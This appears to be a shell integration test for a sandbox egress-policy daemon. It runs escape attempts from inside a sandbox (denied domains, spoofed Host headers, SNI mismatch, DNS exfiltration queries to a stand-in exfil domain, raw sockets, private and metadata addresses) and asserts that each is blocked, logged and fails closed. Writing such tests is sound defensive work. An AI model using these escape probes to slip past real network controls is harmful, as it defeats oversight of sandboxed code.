#!/bin/bash
# SPDX-License-Identifier: MIT
# The escape routes, one check each: a sandbox inside a fresh test world tries every way out,
# and each check asserts both what the sandboxed program sees and that the origin server (or
# the world's DNS server) did not see the traffic. Root only; everything runs in namespaces
# this script creates and removes.
# shellcheck disable=SC2015
set -u
cd "$(dirname "$0")/../.." || exit 1
# shellcheck source=tests/integ.sh
. tests/integ.sh
integ_init -b "$NETTOOL" egress e ip nsenter curl dig socat openssl
failed=0

pass() { echo "PASS egress.$1"; }
fail() {
	echo "FAIL egress.$1: $2"
	failed=1
}

cleanup() { integ_cleanup t1 t2; }
integ_traps
integ_world_up
ACCESS=$WORLD_DIR/access.log
DNSLOG=$WORLD_DIR/dns.log

# ---- setup: Balanced baseline plus the test names ------------------------------------------
S policy set-default balanced >/dev/null &&
	S policy allow network "allowed.test,*.example.com,example.com" >/dev/null &&
	S policy deny network ads.example.com >/dev/null &&
	S policy allow network "rebind.example,private.example,metadata.example,cgnat.example,loop.example" >/dev/null ||
	{
		echo "FAIL egress.setup: cannot set the policy"
		exit 1
	}
if ! out=$(S run t1 -- true 2>&1); then
	echo "FAIL egress.setup: sbx run t1: $out"
	exit 1
fi
pass setup

# ---- allowed traffic gets through, both ways ------------------------------------------------
m=$(mark "$ACCESS")
X curl -s -m 5 --noproxy '*' http://allowed.test/
[ $RC = 0 ] && [[ $OUT == *"host=allowed.test"* ]] && since "$ACCESS" "$m" | grep -q "allowed.test GET /" &&
	pass transparent_http_allowed || fail transparent_http_allowed "rc=$RC out=$OUT"

X curl -s -m 5 --noproxy '*' --cacert "$CA" https://allowed.test/
[ $RC = 0 ] && [[ $OUT == *"host=allowed.test"*"scheme=https"* ]] && pass transparent_https_allowed ||
	fail transparent_https_allowed "rc=$RC out=$OUT"

X sh -c 'curl -s -m 5 http://allowed.test/; echo; echo "proxy=$HTTP_PROXY"'
[ $RC = 0 ] && [[ $OUT == *"host=allowed.test"* ]] && [[ $OUT == *"proxy=http://gateway.docker.internal:3128"* ]] &&
	pass forward_http_allowed || fail forward_http_allowed "rc=$RC out=$OUT"

X curl -s -m 5 --cacert "$CA" https://allowed.test/
[ $RC = 0 ] && [[ $OUT == *"scheme=https"* ]] && pass forward_connect_allowed ||
	fail forward_connect_allowed "rc=$RC out=$OUT"

# ---- denied names -------------------------------------------------------------------------------
m=$(mark "$ACCESS")
X curl -s -m 5 http://evil.example/
[[ $OUT == *"Blocked by network policy: domain evil.example"* ]] &&
	[[ $OUT == *"detail: no matching allow rule - blocked by default deny policy"* ]] &&
	! since "$ACCESS" "$m" | grep -q evil.example && pass forward_denied_403 ||
	fail forward_denied_403 "rc=$RC out=$OUT"

X curl -s -m 5 -o /dev/null -w '%{http_connect}' --cacert "$CA" https://evil.example/
[ $RC != 0 ] && [[ $OUT == *403* ]] && ! since "$ACCESS" "$m" | grep -q evil.example &&
	pass forward_connect_denied || fail forward_connect_denied "rc=$RC out=$OUT"

X curl -s -m 5 --noproxy '*' --resolve evil.example:80:203.0.113.66 http://evil.example/
[[ $OUT == *"Blocked by network policy: domain evil.example"* ]] && ! since "$ACCESS" "$m" | grep -q evil.example &&
	pass transparent_denied_403 || fail transparent_denied_403 "rc=$RC out=$OUT"

X curl -s -m 5 --noproxy '*' --cacert "$CA" --resolve evil.example:443:203.0.113.66 https://evil.example/
[ $RC != 0 ] && ! since "$ACCESS" "$m" | grep -q evil.example && pass transparent_tls_denied_reset ||
	fail transparent_tls_denied_reset "rc=$RC out=$OUT"

# ---- addresses instead of names ---------------------------------------------------------------
m=$(mark "$ACCESS")
X curl -s -m 5 --noproxy '*' http://203.0.113.10/
[[ $OUT == *"Blocked by network policy"* ]] && ! since "$ACCESS" "$m" | grep -q "^203.0.113.10 " &&
	pass direct_ip_denied || fail direct_ip_denied "rc=$RC out=$OUT"

# Host says an allowed name, the address is a denied host: the proxy dials the name's own address.
m=$(mark "$ACCESS")
X curl -s -m 5 --noproxy '*' -H 'Host: allowed.test' http://203.0.113.66/
new=$(since "$ACCESS" "$m")
[[ $new == *"203.0.113.10 allowed.test"* ]] && [[ $new != *"203.0.113.66"* ]] && pass spoofed_host_goes_to_named_host ||
	fail spoofed_host_goes_to_named_host "rc=$RC out=$OUT log=$new"

X curl -s -m 5 -k -o /dev/null -w '%{http_connect}' https://203.0.113.10/
[ $RC != 0 ] && [[ $OUT == *403* ]] && pass connect_ip_literal_denied || fail connect_ip_literal_denied "rc=$RC out=$OUT"

X sh -c 'echo | openssl s_client -proxy gateway.docker.internal:3128 -connect allowed.test:443 -servername evil.example -CAfile "$0" 2>&1' "$CA"
[[ $OUT == *"no peer certificate available"* ]] && S policy log --json | grep -q '"reason":.*"sni-mismatch"' &&
	pass sni_connect_mismatch || fail sni_connect_mismatch "out=$OUT"

# ---- other protocols ------------------------------------------------------------------------------
m=$(mark "$DNSLOG")
X dig +time=2 +tries=1 @198.51.100.53 secret-data.exfil.example
[[ $OUT == *"status: REFUSED"* ]] && ! since "$DNSLOG" "$m" | grep -q exfil && pass udp_dns_to_outside_server_answered_by_sbxd ||
	fail udp_dns_to_outside_server_answered_by_sbxd "rc=$RC out=$OUT"

X dig +time=2 +tries=1 secret-data.exfil.example
[[ $OUT == *"status: REFUSED"* ]] && ! since "$DNSLOG" "$m" | grep -q exfil && pass dns_exfiltration_refused ||
	fail dns_exfiltration_refused "rc=$RC out=$OUT"

X dig +time=2 +tries=1 +short pypi.org
[ "$OUT" = 198.51.100.10 ] && pass dns_allowed_name_resolves || fail dns_allowed_name_resolves "out=$OUT"

m=$(mark "$WORLD_DIR/udp.log")
X "$NETTOOL" udp 198.51.100.10 9999
[ $RC != 0 ] && sleep 0.3 && [ -z "$(since "$WORLD_DIR/udp.log" "$m")" ] && pass udp_other_ports_refused ||
	fail udp_other_ports_refused "rc=$RC out=$OUT"

X "$NETTOOL" icmp 198.51.100.10
[ $RC != 0 ] && pass icmp_blocked || fail icmp_blocked "out=$OUT"

X "$NETTOOL" raw
[ $RC != 0 ] && pass raw_socket_refused || fail raw_socket_refused "out=$OUT"

# no BPF LSM here, but a sandbox holds no CAP_NET_RAW over its network namespace
X "$NETTOOL" packet
[ $RC != 0 ] && [[ $OUT == refused* ]] && pass packet_socket_refused || fail packet_socket_refused "out=$OUT"

m=$(mark "$ACCESS")
X curl -s -m 5 -g --noproxy '*' 'http://[2001:db8:100::10]/'
[ $RC != 0 ] && ! since "$ACCESS" "$m" | grep -q "2001:db8" && pass ipv6_refused || fail ipv6_refused "rc=$RC out=$OUT"

m=$(mark "$WORLD_DIR/tcp.log")
X "$NETTOOL" tcp 198.51.100.10 7
sleep 0.3
[ -z "$(since "$WORLD_DIR/tcp.log" "$m")" ] && pass raw_tcp_denied || fail raw_tcp_denied "out=$OUT"

# ---- internal addresses behind allowed names ---------------------------------------------------
m=$(mark "$ACCESS")
for name in rebind.example private.example metadata.example cgnat.example loop.example; do
	X curl -s -m 5 "http://$name/"
	# loop.example is 127.0.0.1: an address of the host itself, a host service
	[[ $OUT == *"Blocked by network policy"*@("private address"|"address of this host")* ]] &&
		pass "private_ip_refused_$name" ||
		fail "private_ip_refused_$name" "rc=$RC out=$OUT"
done
[ -z "$(since "$ACCESS" "$m")" ] && pass private_ip_origin_untouched || fail private_ip_origin_untouched "$(since "$ACCESS" "$m")"

S policy allow network 10.77.0.5:80 >/dev/null
X curl -s -m 5 http://rebind.example/
[[ $OUT == *"host=rebind.example"* ]] && pass address_rule_unlocks_private_ip || fail address_rule_unlocks_private_ip "out=$OUT"

# ---- precedence and live changes ---------------------------------------------------------------
X curl -s -m 5 http://ads.example.com/
[[ $OUT == *"Blocked by network policy: domain ads.example.com"* ]] && pass deny_beats_wildcard_allow ||
	fail deny_beats_wildcard_allow "out=$OUT"
X curl -s -m 5 http://www.example.com/
[[ $OUT == *"host=www.example.com"* ]] && pass wildcard_allow_works || fail wildcard_allow_works "out=$OUT"

S policy deny network allowed.test >/dev/null
X curl -s -m 5 http://allowed.test/
[[ $OUT == *"Blocked by network policy: domain allowed.test"* ]] && pass policy_change_applies_at_once ||
	fail policy_change_applies_at_once "out=$OUT"
S policy rm network --resource allowed.test >/dev/null
S policy allow network allowed.test >/dev/null

# ---- other sandboxes and the host's own services --------------------------------------------
if out=$(S run t2 -- true 2>&1); then
	T2IP=$(S ls --json | python3 -c 'import json,sys; print([s["ip"] for s in json.load(sys.stdin)["sandboxes"] if s["name"]=="t2"][0])')
	X curl -s -m 5 --noproxy '*' "http://$T2IP:8080/"
	[ $RC != 0 ] || [[ $OUT == *"Blocked"* ]] && pass other_sandbox_unreachable || fail other_sandbox_unreachable "out=$OUT"
else
	fail other_sandbox_unreachable "cannot create t2: $out"
fi

integ_host_service 'host-service-ok\n\n'
in_world socat TCP-LISTEN:18080,bind=127.0.0.1,fork,reuseaddr EXEC:"$T/host-service" >/dev/null 2>&1 &
HOSTSVC_PID=$!
BG_PIDS+=("$HOSTSVC_PID")
for ((i = 0; i < 50; i++)); do
	in_world ss -ltn | grep -q '127.0.0.1:18080 ' && break
	sleep 0.1
done
X curl -s -m 5 http://host.docker.internal:18080/
[[ $OUT != *host-service-ok* ]] && [[ $OUT == *"Blocked by network policy: domain host.docker.internal"* ]] &&
	pass host_service_closed_without_rule || fail host_service_closed_without_rule "out=$OUT"
S policy allow network localhost:18080 >/dev/null
X curl -s -m 5 http://host.docker.internal:18080/
[[ $OUT == *host-service-ok* ]] && pass host_service_with_localhost_rule || fail host_service_with_localhost_rule "out=$OUT"
X curl -s -m 5 --noproxy '*' http://host.docker.internal:18080/
[[ $OUT == *host-service-ok* ]] && pass host_service_transparent || fail host_service_transparent "out=$OUT"

# ---- the log --------------------------------------------------------------------------------------
in_world env "${ENVV[@]}" timeout 4 "$SBX_BIN" policy log --follow t1 >"$T/follow.out" 2>&1 </dev/null &
follower=$!
sleep 1.2
X curl -s -m 5 http://evil.example/follow-me
X curl -s -m 5 http://allowed.test/
wait "$follower"
grep -Eq '^[0-9:]{8} +t1 +BLOCKED +evil.example +forward +default-deny' "$T/follow.out" &&
	grep -Eq '^[0-9:]{8} +t1 +ALLOWED +allowed.test +forward +domain-allowed' "$T/follow.out" &&
	[ "$(grep -c . "$T/follow.out")" -le 6 ] && pass log_follow_streams_new_verdicts ||
	fail log_follow_streams_new_verdicts "$(cat "$T/follow.out")"

log=$(S policy log --json)
echo "$log" | python3 -c '
import json, sys
d = json.load(sys.stdin)
b = {(e["host"], e["proxy_type"], e["reason"]) for e in d["blocked_hosts"]}
a = {(e["host"], e["proxy_type"]) for e in d["allowed_hosts"]}
need_b = [("evil.example", "forward", "default-deny"), ("ads.example.com", "forward", "domain-blocked"),
          ("evil.example", "transparent", "default-deny"), ("rebind.example", "forward", "private-ip"),
          ("secret-data.exfil.example", "network", "dns-refused")]
need_a = [("allowed.test", "transparent"), ("allowed.test", "forward"), ("allowed.test", "forward-bypass")]
kernel = {e["reason"] for e in d["blocked_hosts"] if e["proxy_type"] == "network" and e["rule"] == ""}
need_b += [(h, "network", r) for h, r in [("198.51.100.10:9999 (udp)", "udp-blocked")]]
# raw sockets are refused by the kernel itself (no CAP_NET_RAW) before sbx sees them; ping
# sockets reach sbx (ping_group_range is open in the sandbox) and are counted
if not {"udp-blocked", "ipv6-blocked", "icmp-blocked"} <= kernel:
    print("kernel reasons", kernel); sys.exit(1)
miss = [x for x in need_b if x not in b] + [x for x in need_a if x not in a]
sys.exit(1 if miss else 0) if not miss else (print(miss), sys.exit(1))
' && pass log_shows_verdicts || fail log_shows_verdicts "$(echo "$log" | head -c 3000)"
S policy log | grep -q "^Blocked requests:" && pass log_table || fail log_table "no table"

# ---- fail closed: sbxd killed while the sandbox keeps dialling -----------------------------
pid=$(daemon_pid)
mt=$(mark "$WORLD_DIR/tcp.log")
mu=$(mark "$WORLD_DIR/udp.log")
# the dialler runs inside the sandbox through the kill; every attempt after it must fail
in_world env "${ENVV[@]}" "$SBX_BIN" exec t1 -- sh -c \
	"for i in \$(seq 30); do echo try \$i; $NETTOOL tcp 198.51.100.10 7; $NETTOOL tcp 203.0.113.10 80; $NETTOOL udp 198.51.100.10 9999; sleep 0.1; done" \
	>"$T/dial.out" 2>&1 </dev/null &
dialler=$!
sleep 1
[ -n "$pid" ] && kill -9 "$pid"
killed_at=$(grep -c '^try' "$T/dial.out")
wait "$dialler"
sleep 0.3
after=$(awk -v n="$killed_at" '/^try/ { t++ } t > n + 1' "$T/dial.out")
if [ -z "$(since "$WORLD_DIR/tcp.log" "$mt")" ] && [ -z "$(since "$WORLD_DIR/udp.log" "$mu")" ] &&
	[ -n "$after" ] && ! grep -q '^ok' <<<"$after"; then
	pass fail_closed_while_sbxd_down
else
	fail fail_closed_while_sbxd_down "after kill: $(head -c 600 <<<"$after") tcp=$(since "$WORLD_DIR/tcp.log" "$mt")"
fi
S policy log >/dev/null && pass log_readable_while_sbxd_down || fail log_readable_while_sbxd_down "exit $?"
[ ! -S "$T/run/sbxd.sock" ] || ! kill -0 "$pid" 2>/dev/null && pass daemon_was_down ||
	fail daemon_was_down "sbxd still running"

# ---- reset stops the sandboxes with the daemon ---------------------------------------------
SB=t2 X sh -c 'sleep 60 & echo started'
S policy reset --force >/dev/null
st=$(S ls --json | python3 -c 'import json,sys; print(" ".join(s["name"] + ":" + s["status"] for s in json.load(sys.stdin)["sandboxes"]))')
[[ $st == *"t1:stopped"* && $st == *"t2:stopped"* ]] && [ ! -e "$T/state/policy.json" ] &&
	pass reset_stops_sandboxes || fail reset_stops_sandboxes "ls: $st"

exit $failed
